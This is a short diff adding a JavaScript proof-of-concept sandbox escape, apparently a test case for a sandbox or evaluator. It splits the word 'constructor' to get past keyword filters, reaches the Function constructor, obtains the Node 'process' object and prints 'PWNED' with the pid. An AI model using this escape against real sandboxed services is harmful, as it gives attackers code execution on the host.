@@ -1,0 +1,7 @@
+const w = ['con', 'structor'].join('');
+const t = { go: (f) => f[w] };
+t.go({});
+const fn = (x) => x;
+const o = {};
+for (const k in t) o[k] = t[k];
+console.log('PWNED', o.go(fn)('return process')().pid);
